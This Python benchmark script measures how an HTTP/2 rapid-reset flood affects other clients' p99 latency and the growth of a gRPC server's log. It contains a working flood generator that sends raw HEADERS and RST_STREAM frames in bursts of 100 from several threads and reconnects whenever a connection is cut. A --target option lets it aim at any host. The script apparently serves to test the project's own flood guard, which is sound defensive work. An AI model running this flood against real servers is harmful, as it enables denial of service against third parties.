#!/usr/bin/env python3
"""What a rapid reset costs the other callers (issue 29, item 3): the p99 of a steady client's calls without an
attack, then beside ATTACKERS rapid-reset attackers (HEADERS + RST_STREAM pairs on one connection each,
reconnecting whenever cut off), in the same run; and how much the server's log grew in each phase.

    Tests/Benchmarks/rapid_reset.py SERVER_BINARY [ATTACKERS] [SECONDS]
    Tests/Benchmarks/rapid_reset.py --target HOST:PORT --log FILE [--path P] [--header 'name: value']...
                                    [--rps N] [ATTACKERS] [SECONDS]

The first form starts SERVER_BINARY (kindred-interop-server: --log-level info, its log to a file) on a free port
and measures Health/Check; the second measures a server already running at HOST:PORT whose log is FILE
(`KINDRED_BENCH_ONLY=attack Tests/Benchmarks/social` runs kindred-social this way, on ListFeed). The steady
client is h2load -c 4 -m 1, at --rps calls a second per connection (0: as fast as answers come). It prints both
p99s, the log growth, and how the server ended the attackers' connections: GOAWAY error codes (11 is
ENHANCE_YOUR_CALM, 2 INTERNAL_ERROR), cut before any frame (the address is cooling after a flood: held unread
until it has cooled, then closed), reset.

The attackers are one separate process under `nice -n 19` (--nice), connecting from 127.0.0.2 (--source): the
steady client and the server keep the CPU they want, as when the attack comes from elsewhere, and the address
the flood guard cools is the attackers', not the steady client's 127.0.0.1.
"""

import argparse
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "deploy", "local"))
from free_port import free_port  # noqa: E402  (below the ephemeral range; see deploy/local/free_port.py)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
HEALTH = "/grpc.health.v1.Health/Check"
ATTACKED = b"/grpc.testing.TestService/EmptyCall"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value


BLOCK = b"".join(literal(n, v) for n, v in [
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", ATTACKED), (b":authority", b"x"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")])


def burst(first_stream, pairs):
    """`pairs` streams opened and reset at once: HEADERS (no END_STREAM) then RST_STREAM CANCEL, each."""
    return b"".join(
        frame(1, 0x4, stream, BLOCK) + frame(3, 0, stream, struct.pack(">I", 8))
        for stream in range(first_stream, first_stream + 2 * pairs, 2))


def goaway_codes(data):
    """The error codes of the GOAWAY frames in `data` (whole frames only; enough to tell how a connection ended)."""
    codes, offset = [], 0
    while offset + 9 <= len(data):
        length = int.from_bytes(data[offset:offset + 3], "big")
        if data[offset + 3] == 7 and offset + 9 + 8 <= len(data):
            codes.append(int.from_bytes(data[offset + 13:offset + 17], "big"))
        offset += 9 + length
    return codes


def attack(host, port, source, stop, counts, lock):
    """Opens a connection, floods it with bursts of 100 reset streams, reconnects when cut off; counts how each
    connection ended."""
    while not stop.is_set():
        received, ending = b"", "open at the end"
        try:
            with socket.create_connection((host, port), source_address=(source, 0)) as sock:
                with lock:
                    counts["connections"] += 1
                sock.sendall(PREFACE)
                stream = 1
                while not stop.is_set() and stream < 2**31 - 400:
                    sock.sendall(burst(stream, 100))
                    stream += 200
                    with lock:
                        counts["streams"] += 100
                    sock.setblocking(False)
                    try:
                        chunk = sock.recv(1 << 16)
                        if not chunk:
                            ending = "closed"
                            break
                        if len(received) < 1 << 16:
                            received += chunk
                    except BlockingIOError:
                        pass
                    sock.setblocking(True)
        except (ConnectionResetError, BrokenPipeError):
            ending = "reset"
        except OSError:
            ending = "failed"
        codes = goaway_codes(received)
        if codes:
            ending = "goaway " + ",".join(str(code) for code in codes)
        elif not received and ending in ("closed", "reset"):
            ending = "cut before any frame (cooling)"
        with lock:
            counts[ending] = counts.get(ending, 0) + 1


def attackers_main(host, port, source, attackers):
    """The attacker process: floods until its stdin closes, then prints its counts as JSON."""
    stop, counts, lock = threading.Event(), {"connections": 0, "streams": 0}, threading.Lock()
    threads = [threading.Thread(target=attack, args=(host, port, source, stop, counts, lock))
               for _ in range(attackers)]
    for thread in threads:
        thread.start()
    sys.stdin.read()
    stop.set()
    for thread in threads:
        thread.join()
    print(json.dumps(counts))


def p99(log_file):
    """The 99th percentile of h2load's per-request log (tab-separated; the third column is µs), in ms."""
    latencies = sorted(int(line.split("\t")[2]) for line in open(log_file) if line.count("\t") >= 2)
    return latencies[int(len(latencies) * 0.99)] / 1000 if latencies else float("nan"), len(latencies)


def steady(options, seconds, workdir, label):
    body = os.path.join(workdir, "empty.grpc")
    with open(body, "wb") as f:
        f.write(b"\x00\x00\x00\x00\x00")
    log = os.path.join(workdir, f"h2load-{label}.log")
    headers = [argument for header in options.header for argument in ("-H", header)]
    rate = ["--rps", str(options.rps)] if options.rps else []
    run = subprocess.run(
        ["h2load", "-D", str(seconds), "-c", "4", "-m", "1", "-t", "1", "-H", "content-type: application/grpc",
         "-H", "te: trailers", *headers, *rate, "-d", body, f"--log-file={log}",
         f"http://{options.host}:{options.port}{options.path}"],
        check=True, capture_output=True, text=True)
    failed = next((line.strip() for line in run.stdout.splitlines() if line.startswith("requests:")), "")
    return (*p99(log), failed)


def load_average():
    return " ".join(open("/proc/loadavg").read().split()[:3])


def measure(options, log_file):
    workdir = tempfile.mkdtemp(prefix="rapid-reset-")
    print(f"load average before: {load_average()}", flush=True)
    size = os.path.getsize(log_file)
    calm_p99, calm_calls, calm_requests = steady(options, options.seconds, workdir, "unattacked")
    calm_growth = os.path.getsize(log_file) - size

    size = os.path.getsize(log_file)
    attackers = subprocess.Popen(
        ["nice", "-n", str(options.nice), sys.executable, __file__, "--attackers-only", "--target",
         f"{options.host}:{options.port}", "--source", options.source, str(options.attackers)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    attacked_p99, attacked_calls, attacked_requests = steady(options, options.seconds, workdir, "attacked")
    attacked_growth = os.path.getsize(log_file) - size
    counts = json.loads(attackers.communicate("")[0])
    print(f"load average after:  {load_average()}")
    print(f"unattacked: {options.path} p99 {calm_p99:.2f} ms ({calm_calls} calls; {calm_requests}), "
          f"log +{calm_growth} bytes")
    print(f"attacked:   {options.path} p99 {attacked_p99:.2f} ms ({attacked_calls} calls; {attacked_requests}), "
          f"log +{attacked_growth} bytes in {options.seconds} s")
    print(f"attack:     {options.attackers} attackers (nice {options.nice}, from {options.source}), "
          f"{counts.pop('connections')} connections, {counts.pop('streams')} pairs of HEADERS + RST_STREAM written; "
          f"how connections ended: {counts}")
    print(f"log:        the attack's own growth (attacked minus unattacked, the steady calls' access lines being "
          f"the same) = {attacked_growth - calm_growth} bytes in {options.seconds} s")
    print(f"ratio:      attacked p99 / unattacked p99 = {attacked_p99 / calm_p99:.2f}")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("arguments", nargs="*", help="[SERVER_BINARY] [ATTACKERS] [SECONDS]")
    parser.add_argument("--target", help="HOST:PORT of a server already running")
    parser.add_argument("--log", help="the running server's log file")
    parser.add_argument("--path", default=HEALTH, help="the steady client's method")
    parser.add_argument("--header", action="append", default=[], help="a header of the steady client's calls")
    parser.add_argument("--rps", type=int, default=0, help="calls a second per steady connection (0: unpaced)")
    parser.add_argument("--source", default="127.0.0.2", help="the attackers' source address")
    parser.add_argument("--nice", type=int, default=19, help="the attackers' niceness")
    parser.add_argument("--attackers-only", action="store_true", help=argparse.SUPPRESS)
    options = parser.parse_intermixed_args()
    rest = options.arguments if options.target else options.arguments[1:]
    if not options.target and not options.arguments:
        parser.error("give a SERVER_BINARY or --target")
    options.attackers = int(rest[0]) if rest else 4
    options.seconds = int(rest[1]) if len(rest) > 1 else 10
    if options.target:
        options.host, port = options.target.rsplit(":", 1)
        options.port = int(port)
        if options.attackers_only:
            return attackers_main(options.host, options.port, options.source, options.attackers)
        if not options.log:
            parser.error("--target needs --log")
        return measure(options, options.log)
    options.host, options.port = "127.0.0.1", free_port()
    server_log = os.path.join(tempfile.mkdtemp(prefix="rapid-reset-server-"), "server.log")
    with open(server_log, "wb") as out:
        server = subprocess.Popen(
            [options.arguments[0], "--log-level", "info", "--listen", f"127.0.0.1:{options.port}"],
            stdout=out, stderr=subprocess.STDOUT)
    try:
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", options.port)).close()
                break
            except OSError:
                time.sleep(0.1)
        measure(options, server_log)
    finally:
        server.terminate()
        server.wait()


if __name__ == "__main__":
    main()
